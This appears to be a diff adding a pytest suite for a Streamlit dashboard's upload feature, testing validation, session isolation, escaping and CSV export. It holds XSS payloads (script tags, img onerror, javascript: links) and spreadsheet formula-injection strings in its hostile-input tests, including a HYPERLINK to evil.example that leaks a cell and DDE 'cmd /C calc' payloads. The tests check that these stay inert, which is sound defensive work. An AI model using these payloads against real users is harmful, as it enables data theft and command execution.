@@ -1,0 +1,460 @@
+"""Uploading one's own dataset: the pure check, the session wiring, isolation, untrusted text, export.
+
+The pure core is ``dataset.check_upload`` (no Streamlit). The app side is driven with AppTest,
+which in Streamlit 1.67 can set ``st.file_uploader`` values (``set_value((name, bytes, mime))``)
+and runs the widget's ``on_change`` callback like a browser would. What AppTest cannot show is
+the browser: the 5 MB limit that the frontend enforces before sending (``server.maxUploadSize``),
+and two sessions at the same time; ``tests/browser/test_isolation.py`` covers those in Chromium.
+"""
+
+from __future__ import annotations
+
+import ast
+import io
+import json
+import math
+import re
+import sys
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from streamlit.testing.v1 import AppTest
+
+from dashboard import dataset, export, ledger, schema
+from dashboard.dataset import check_upload, contract_csv, read_dataset
+from dashboard.ui import upload
+
+REPO = Path(__file__).resolve().parents[1]
+APP = str(REPO / "app.py")
+GOOD = REPO / "tests" / "data" / "good" / "minimal.csv"
+HOSTILE = REPO / "tests" / "data" / "hostile"
+PAGES = ("overview", "compare", "timeline", "data_sources", "method")
+
+
+@pytest.fixture(scope="module")
+def bundled() -> pd.DataFrame:
+    return read_dataset(dataset.default_dataset_path())
+
+
+def good_text() -> str:
+    return GOOD.read_text()
+
+
+def lines(result: dataset.Upload) -> list[str]:
+    return [str(p) for p in result.problems]
+
+
+# --- the pure check -----------------------------------------------------------------------------
+
+
+def test_valid_contract_file_gives_the_same_frame_as_the_strict_reader() -> None:
+    result = check_upload(GOOD.read_bytes(), "minimal.csv")
+    assert result.ok and result.problems == []
+    pd.testing.assert_frame_equal(result.frame, read_dataset(GOOD))
+    assert result.summary == "6 rows read as comma-separated, UTF-8"
+
+
+def test_add_mode_validates_upload_and_bundled_data_as_one(bundled) -> None:
+    result = check_upload(GOOD.read_bytes(), "minimal.csv", mode="add", bundled=bundled)
+    assert result.ok
+    assert len(result.frame) == 6 + len(bundled)
+    assert result.frame[schema.ID].tolist()[:6] == read_dataset(GOOD)[schema.ID].tolist()  # uploaded rows first
+    assert result.frame.index.tolist() == list(range(1, 7 + len(bundled)))
+    assert result.summary == f"6 rows read as comma-separated, UTF-8, added to the {len(bundled)} bundled rows " \
+                             f"({6 + len(bundled)} in use)"
+
+
+def test_duplicate_ids_with_the_bundled_data_name_both_rows(bundled) -> None:
+    first = bundled[schema.ID].iloc[0]
+    stargate_row = int(bundled.index[bundled[schema.ID] == "stargate"][0])
+    text = good_text().replace("alpha-programme", first).replace("gamma-cloud", "stargate")
+    result = check_upload(text.encode(), "dup.csv", mode="add", bundled=bundled)
+    assert lines(result) == [
+        f"row 1 (id {first}), id: duplicate id, also bundled row 1",
+        f"row 6 (id stargate), id: duplicate id, also bundled row {stargate_row}",
+    ]
+    # Without the bundled data the same file is valid: only "add" clashes.
+    assert check_upload(text.encode(), "dup.csv").ok
+
+
+def test_duplicates_inside_the_upload_and_with_the_bundled_data_are_named_together(bundled) -> None:
+    text = good_text().replace("alpha-programme,,headline", "stargate,,headline").replace(
+        "gamma-cloud", "stargate").replace("alpha-fund,alpha-programme", "alpha-fund,stargate")
+    result = check_upload(text.encode(), "dup.csv", mode="add", bundled=bundled)
+    stargate_row = int(bundled.index[bundled[schema.ID] == "stargate"][0])
+    assert lines(result) == [
+        f"row 1 (id stargate), id: duplicate id, also row 6 and bundled row {stargate_row}",
+        f"row 6 (id stargate), id: duplicate id, also row 1 and bundled row {stargate_row}",
+    ]
+
+
+def test_a_parent_may_be_a_bundled_row_only_when_adding(bundled) -> None:
+    text = good_text().replace("site-count,,context", "site-count,stargate,context")
+    assert check_upload(text.encode(), "child.csv", mode="add", bundled=bundled).ok
+    assert lines(check_upload(text.encode(), "child.csv")) == [
+        "row 5 (id site-count), parent_id: 'stargate' is not the id of any row"]
+
+
+def test_size_limit_is_checked_on_the_bytes_and_names_the_limit() -> None:
+    content = GOOD.read_bytes()
+    result = check_upload(content, "x.csv", max_bytes=1024)
+    assert lines(result) == [
+        f"file: the file is 0.0 MB ({len(content):,} bytes); uploads are limited to 0.000976562 MB"]
+    assert check_upload(content, "x.csv", max_bytes=len(content)).ok
+
+
+def test_german_amounts_are_only_decimal_commas_in_semicolon_files() -> None:
+    semicolon = good_text().replace(",", ";").replace("37500000000;37500000000", "37.500.000.000,75;1.234.567.890.123")
+    frame = check_upload(semicolon.encode()).frame
+    assert frame.loc[6, schema.AMOUNT_LOW] == 37_500_000_000.75 and frame.loc[6, schema.AMOUNT_HIGH] == 1_234_567_890_123
+    # the same cells in the comma-separated contract are not numbers
+    comma = good_text().replace("37500000000,37500000000", '"37.500.000.000,75","1.234.567.890.123"')
+    assert [p.column for p in check_upload(comma.encode()).problems] == ["amount_low", "amount_high"]
+
+
+def test_a_semicolon_file_with_a_decimal_point_keeps_it() -> None:
+    text = good_text().replace(",", ";").replace("37500000000;37500000000", "37500000000.5;37500000000.5")
+    result = check_upload(text.encode())
+    assert result.ok and result.frame.loc[6, schema.AMOUNT_LOW] == 37_500_000_000.5
+    assert result.variant.decimal == "."
+
+
+def test_xlsx_without_openpyxl_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setitem(sys.modules, "openpyxl", None)  # "import openpyxl" raises ImportError
+    result = check_upload((HOSTILE / "spreadsheet.xlsx").read_bytes(), "book.xlsx")
+    assert lines(result) == ["file: XLSX needs openpyxl, which is not installed; export as CSV"]
+
+
+def test_xlsx_with_openpyxl_reads_the_first_sheet() -> None:
+    pytest.importorskip("openpyxl", reason="openpyxl is optional (not a dependency)")
+    result = check_upload((HOSTILE / "spreadsheet.xlsx").read_bytes(), "book.xlsx")
+    assert result.ok and result.summary == "6 rows read as XLSX (first sheet)"
+    pd.testing.assert_frame_equal(result.frame, read_dataset(GOOD))
+
+
+def test_unknown_mode_is_a_programming_error(bundled) -> None:
+    with pytest.raises(ValueError):
+        check_upload(b"", mode="merge")
+    with pytest.raises(ValueError):
+        check_upload(b"", mode="add")
+
+
+@settings(max_examples=60, deadline=None)
+@given(data=st.binary(max_size=400), semicolon=st.booleans())
+def test_arbitrary_bytes_give_a_frame_or_problems_never_an_exception(data: bytes, semicolon: bool) -> None:
+    content = (good_text().replace(",", ";") if semicolon else good_text()).encode()[:200] + data
+    result = check_upload(content, "fuzz.csv")
+    assert (result.frame is None) == bool(result.problems)
+    assert all(str(p).startswith(("file: ", "header, ", "row ")) for p in result.problems)
+
+
+# --- contract CSV: what the session keeps ----------------------------------------------------------
+
+
+def test_contract_csv_reads_back_to_the_same_frame(bundled) -> None:
+    pd.testing.assert_frame_equal(read_dataset(contract_csv(bundled)), bundled)
+    for name in ("german_excel_semicolon.csv", "latin1_umlauts.csv", "html_markdown_names.csv",
+                 "formula_cells.csv", "cp1252_euro_quotes.csv"):
+        frame = check_upload((HOSTILE / name).read_bytes(), name).frame
+        pd.testing.assert_frame_equal(read_dataset(contract_csv(frame)), frame, obj=name)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.floats(min_value=0, max_value=1e30, allow_nan=False, allow_infinity=False))
+def test_any_amount_survives_the_contract_csv_exactly(amount: float) -> None:
+    frame = read_dataset(GOOD)
+    frame.loc[1, [schema.AMOUNT_LOW, schema.AMOUNT_HIGH]] = [amount, max(amount, 1.0)]
+    back = read_dataset(contract_csv(frame))
+    assert back.loc[1, schema.AMOUNT_LOW] == amount and back.loc[1, schema.AMOUNT_HIGH] == max(amount, 1.0)
+
+
+# --- no module-level mutable state ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["dashboard/ui/upload.py", "dashboard/ui/context.py", "dashboard/dataset.py"])
+def test_modules_keep_no_mutable_state_at_module_level(path: str) -> None:
+    tree = ast.parse((REPO / path).read_text(encoding="utf-8"))
+    mutable = (ast.List, ast.Dict, ast.Set, ast.ListComp, ast.DictComp, ast.SetComp, ast.Call)
+    allowed_calls = {"re.compile", "frozenset", "TypeVar", "Union"}
+    offenders = []
+    for node in tree.body:
+        if isinstance(node, (ast.Assign, ast.AnnAssign)) and node.value is not None:
+            value = node.value
+            if isinstance(value, mutable):
+                name = ast.unparse(value.func) if isinstance(value, ast.Call) else ""
+                if name not in allowed_calls:
+                    offenders.append(ast.unparse(node)[:80])
+    # dataset.py has two read-only lookup tables (never written): allowed by name
+    offenders = [o for o in offenders if not o.startswith(("_DELIMITER_NAMES", "Source ="))]
+    assert not offenders, offenders
+
+
+# --- the app: AppTest drives the uploader ------------------------------------------------------------
+
+
+def new_app(params: dict | None = None) -> AppTest:
+    at = AppTest.from_file(APP, default_timeout=60)
+    for key, value in (params or {}).items():
+        at.query_params[key] = value
+    at.run()
+    assert not at.exception, [e.message for e in at.exception]
+    return at
+
+
+def upload_file(at: AppTest, name: str, content: bytes) -> AppTest:
+    at.file_uploader(key="upload_file").set_value((name, content, "text/csv"))
+    at.run()
+    assert not at.exception, [e.message for e in at.exception]
+    return at
+
+
+def items_counted(at: AppTest) -> str:
+    return next(m.value for m in at.metric if m.label == "Items counted")
+
+
+def in_use(at: AppTest) -> str:
+    return next(c.value for c in at.sidebar.caption if c.value.startswith("Data in use"))
+
+
+def expected_items(frame: pd.DataFrame) -> int:
+    rows = ledger.normalise(frame, currency="EUR", basis="announcement", year=None, revisions="latest",
+                            on_missing="mark")
+    return len(ledger.totals(rows, view="total").ids)
+
+
+def test_upload_widgets_have_the_documented_keys_and_types() -> None:
+    at = new_app()
+    uploader = at.file_uploader(key="upload_file")
+    assert set(uploader.allowed_type) == {".csv", ".txt", ".xlsx"}
+    assert at.radio(key="upload_mode").options == ["replace the bundled data", "add to the bundled data"]
+    assert at.radio(key="upload_mode").value == "replace"
+    assert at.button(key="upload_reset").disabled
+    assert in_use(at) == "Data in use: the bundled dataset (82 rows)."
+
+
+def test_a_valid_upload_replaces_the_data_for_this_session_and_reset_brings_back_the_bundled(bundled) -> None:
+    at = new_app()
+    bundled_kpis = [m.value for m in at.metric]
+    upload_file(at, "minimal.csv", GOOD.read_bytes())
+    assert items_counted(at) == str(expected_items(read_dataset(GOOD))) != bundled_kpis[2]
+    assert [s.value for s in at.sidebar.success] == ["minimal\\.csv: 6 rows read as comma\\-separated\\, UTF\\-8."]
+    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
+    entry = at.session_state[upload.ACCEPTED_KEY]
+    assert entry["content"] == contract_csv(read_dataset(GOOD)) and entry["mode"] == "replace"
+    assert not at.button(key="upload_reset").disabled
+
+    other = new_app()  # a new session: the upload is not there
+    assert [m.value for m in other.metric] == bundled_kpis
+    assert in_use(other) == "Data in use: the bundled dataset (82 rows)."
+
+    at.button(key="upload_reset").click().run()
+    assert not at.exception
+    assert [m.value for m in at.metric] == bundled_kpis
+    assert upload.ACCEPTED_KEY not in at.session_state
+    assert in_use(at) == "Data in use: the bundled dataset (82 rows)."
+
+
+def test_a_rejected_file_leaves_the_previous_upload_in_use() -> None:
+    at = upload_file(new_app(), "minimal.csv", GOOD.read_bytes())
+    kpis = [m.value for m in at.metric]
+    upload_file(at, "bad.csv", (REPO / "tests/data/bad/several_defects.csv").read_bytes())
+    assert [m.value for m in at.metric] == kpis
+    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
+    assert [e.value for e in at.sidebar.error] == ["bad\\.csv was rejected: 6 problems. The data in use is unchanged."]
+    assert at.sidebar.code[0].value.splitlines()[0] == (
+        "row 1 (id alpha-programme), region: 'Europa' is not one of Europe, North America, Asia, Middle East, Global")
+
+
+def test_add_mode_adds_to_the_bundled_data_and_a_mode_switch_reapplies_the_file(bundled) -> None:
+    at = new_app()
+    at.radio(key="upload_mode").set_value("add").run()
+    upload_file(at, "minimal.csv", GOOD.read_bytes())
+    both = check_upload(GOOD.read_bytes(), mode="add", bundled=bundled).frame
+    assert items_counted(at) == str(expected_items(both))
+    assert in_use(at) == f"Data in use: minimal\\.csv (6 rows) added to the bundled dataset, {len(both)} rows in all."
+    at.radio(key="upload_mode").set_value("replace").run()
+    assert not at.exception
+    assert items_counted(at) == str(expected_items(read_dataset(GOOD)))
+    assert in_use(at) == "Data in use: minimal\\.csv (6 rows) instead of the bundled dataset."
+
+
+def test_add_mode_duplicate_of_a_bundled_id_is_rejected_with_both_rows(bundled) -> None:
+    at = new_app()
+    kpis = [m.value for m in at.metric]
+    at.radio(key="upload_mode").set_value("add").run()
+    upload_file(at, "dup.csv", good_text().replace("gamma-cloud", "stargate").encode())
+    row = int(bundled.index[bundled[schema.ID] == "stargate"][0])
+    assert at.sidebar.code[0].value == f"row 6 (id stargate), id: duplicate id, also bundled row {row}"
+    assert [m.value for m in at.metric] == kpis
+
+
+def test_only_the_first_50_problems_are_shown_with_the_total() -> None:
+    text = good_text().splitlines()
+    rows = [text[1].replace("alpha-programme", f"row-{i}", 1).replace("Europe", "Europa") for i in range(120)]
+    at = upload_file(new_app(), "many.csv", ("\n".join([text[0], *rows]) + "\n").encode())
+    assert [e.value for e in at.sidebar.error] == ["many\\.csv was rejected: 120 problems. The data in use is unchanged."]
+    assert "The first 50 of 120 problems:" in [c.value for c in at.sidebar.caption]
+    shown = at.sidebar.code[0].value.splitlines()
+    assert len(shown) == 50 and shown[-1].startswith("row 50 (id row-49), region: 'Europa'")
+
+
+def test_a_file_over_the_size_limit_is_refused_by_the_app_itself() -> None:
+    # The browser refuses it before sending; a client that sends it anyway meets our own check.
+    content = GOOD.read_bytes() + b"#" * (5 * 1024 * 1024)
+    at = upload_file(new_app(), "big.csv", content)
+    assert at.sidebar.code[0].value == (
+        f"file: the file is 5.0 MB ({len(content):,} bytes); uploads are limited to 5 MB")
+    assert in_use(at) == "Data in use: the bundled dataset (82 rows)."
+
+
+def test_session_wiring_through_session_state_alone() -> None:
+    """What the callback stores is all the app needs: the same entry put into session_state
+    (without the uploader) makes the upload the data in use; a broken entry falls back."""
+    result = check_upload(GOOD.read_bytes(), "minimal.csv")
+    at = AppTest.from_file(APP, default_timeout=60)
+    at.session_state[upload.ACCEPTED_KEY] = {
+        "content": contract_csv(result.frame), "label": "upload:minimal.csv", "name": "minimal.csv",
+        "rows": 6, "total": 6, "mode": "replace", "variant": result.variant.describe()}
+    at.run()
+    assert not at.exception
+    assert items_counted(at) == str(expected_items(result.frame))
+    broken = AppTest.from_file(APP, default_timeout=60)
+    broken.session_state[upload.ACCEPTED_KEY] = {"content": b"not,a,dataset\n", "label": "x"}
+    broken.run()
+    assert not broken.exception
+    assert in_use(broken) == "Data in use: the bundled dataset (82 rows)."
+
+
+def test_unconvertible_rows_are_listed_and_the_others_still_shown() -> None:
+    at = upload_file(new_app(), "rub.csv", (HOSTILE / "rub_2024_unconvertible.csv").read_bytes())
+    warnings = [w.value for w in at.warning]
+    assert len(warnings) == 1 and warnings[0].startswith("1 rows could not be converted"), warnings
+    shown = re.sub(r"\\(.)", r"\1", warnings[0])  # the source is Markdown-escaped; compare the text
+    assert "row 3 (id beta-campus), currency: no RUB→EUR rate for 2024-03-15" in shown
+    frame = check_upload((HOSTILE / "rub_2024_unconvertible.csv").read_bytes()).frame
+    # beta-campus (RUB) is left out, but its USD revision still stands for it: 3 items, as the ledger says
+    assert items_counted(at) == str(expected_items(frame)) == "3"
+    at.switch_page("dashboard/app_pages/data_sources.py").run()
+    assert not at.exception
+    assert any("6 rows match the filters" in m.value for m in at.markdown)
+    assert len(at.dataframe[0].value) == 6
+
+
+# --- untrusted text stays text ----------------------------------------------------------------------
+
+HOSTILE_MARKERS = ("<script", "<img", "<iframe", "](javascript", "](https://evil", ":red[", "$x^2$", "**bold**")
+
+
+def markdown_texts(at: AppTest) -> list[tuple[str, str]]:
+    """Every text the app renders as Markdown: markdown, captions, alerts, metric help."""
+    out = []
+    for kind in ("markdown", "caption", "warning", "info", "error", "success", "title", "subheader", "header"):
+        out.extend((kind, e.value) for e in getattr(at, kind))
+    out.extend(("metric help", m.proto.help) for m in at.metric)
+    return out
+
+
+def is_live(text: str, markers=HOSTILE_MARKERS) -> bool:
+    """Whether a marker occurs with its first character unescaped (``\\<img`` is inert)."""
+    return any(re.search(r"(?<!\\)" + re.escape(marker), text) for marker in markers)
+
+
+def live_markup(at: AppTest) -> list[tuple[str, str]]:
+    return [(k, v) for k, v in markdown_texts(at) if is_live(v)]
+
+
+def test_names_with_html_and_markdown_are_escaped_in_the_upload_messages() -> None:
+    name = "[x](javascript:alert(1))<img src=x onerror=alert(1)>.csv"
+    at = upload_file(new_app(), name, (HOSTILE / "html_markdown_names.csv").read_bytes())
+    sidebar = [e.value for kind in ("success", "caption", "error") for e in getattr(at.sidebar, kind)]
+    assert sidebar and not [v for v in sidebar if is_live(v, (*HOSTILE_MARKERS, "[x](", "<img"))]
+    success = at.sidebar.success[0].value
+    assert "\\[x\\]\\(javascript\\:alert\\(1\\)\\)\\<img" in success
+    at = upload_file(new_app(), name, (HOSTILE / "hostile_id.csv").read_bytes())
+    assert at.sidebar.code[0].value.startswith("row 1 (id <script>alert(1)</script>)")  # st.code: literal text
+    assert all("<script" not in e.value for e in at.sidebar.error)
+
+
+@pytest.mark.parametrize("view", ["total", "per-year"])
+def test_uploaded_names_never_become_live_markdown_outside_the_overview(view: str) -> None:
+    at = upload_file(new_app({"view": view}), "names.csv", (HOSTILE / "html_markdown_names.csv").read_bytes())
+    for page in PAGES[1:]:
+        at.switch_page(f"dashboard/app_pages/{page}.py").run()
+        assert not at.exception, (page, [e.message for e in at.exception])
+        assert live_markup(at) == [], page
+
+
+def test_uploaded_names_never_become_live_markdown_on_the_overview() -> None:
+    at = upload_file(new_app(), "names.csv", (HOSTILE / "html_markdown_names.csv").read_bytes())
+    assert live_markup(at) == []
+
+
+#: Tags the chart builders write themselves; anything else in chart text came from the data.
+_OWN_TAGS = re.compile(r"</?(b|i|br|sup|sub|em|extra)\s*/?>")
+
+
+def raw_chart_text(at: AppTest) -> list[tuple[str, str, str]]:
+    """Chart labels (axis categories, treemap labels, text) that still contain a raw '<'."""
+    found = []
+    for element in at.get("plotly_chart"):
+        for trace in json.loads(element.proto.spec)["data"]:
+            for key in ("x", "y", "labels", "text", "ids", "parents"):
+                values = trace.get(key)
+                for value in values if isinstance(values, list) else [values]:
+                    if isinstance(value, str) and "<" in _OWN_TAGS.sub("", value):
+                        found.append((element.proto.id.rsplit("-", 1)[-1], key, value))
+    return found
+
+
+def test_uploaded_names_stay_text_in_chart_labels() -> None:
+    at = upload_file(new_app(), "names.csv", (HOSTILE / "html_markdown_names.csv").read_bytes())
+    found = raw_chart_text(at)
+    for page in ("timeline",):
+        at.switch_page(f"dashboard/app_pages/{page}.py").run()
+        found += raw_chart_text(at)
+    assert found == []
+
+
+# --- CSV export: same numbers, formulas as text ----------------------------------------------------
+
+
+def exported(frame: pd.DataFrame, currency: str = "USD") -> tuple[pd.DataFrame, pd.DataFrame]:
+    rows = ledger.normalise(frame, currency=currency, basis="announcement", year=None, revisions="latest",
+                            on_missing="mark")
+    table = export.table(rows)
+    back = pd.read_csv(io.StringIO(export.to_csv(table)), keep_default_na=False, na_values=[""])
+    return table, back
+
+
+NUMBER_COLUMNS = ("amount_low", "amount_high", "fx_rate", "value_low", "value_high", "per_year_low", "per_year_high")
+
+
+@pytest.mark.parametrize("source", ["bundled", "formula_cells.csv", "german_excel_semicolon.csv"])
+def test_exported_csv_reads_back_with_the_same_numbers(source: str, bundled) -> None:
+    frame = bundled if source == "bundled" else check_upload((HOSTILE / source).read_bytes()).frame
+    table, back = exported(frame)
+    assert len(back) == len(table)
+    for column in NUMBER_COLUMNS:
+        if column in table:
+            mine, theirs = table[column].astype(float).tolist(), back[column].astype(float).tolist()
+            assert all((math.isnan(a) and math.isnan(b)) or a == b for a, b in zip(mine, theirs)), column
+
+
+def test_formula_cells_come_back_as_text_with_an_apostrophe() -> None:
+    frame = check_upload((HOSTILE / "formula_cells.csv").read_bytes()).frame
+    table, back = exported(frame)
+    by_id = back.set_index("id")
+    assert by_id.loc["alpha-programme", "name"] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
+    assert by_id.loc["alpha-programme", "actor"] == "'+cmd|' /C calc'!A0"
+    assert by_id.loc["beta-campus", "name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_id.loc["beta-campus", "note"] == "'-2+3+cmd|' /C notepad'!A0"
+    assert by_id.loc["gamma-cloud", "name_de"] == "'=cmd|' /C calc'!A0"
+    text_columns = [c for c in back.columns if back[c].dtype == object]
+    for column in text_columns:
+        for value in back[column].dropna():
+            assert not str(value).startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    # numbers are numbers again, not text
+    assert back["amount_low"].dtype == "float64" and back["value_high"].dtype == "float64"
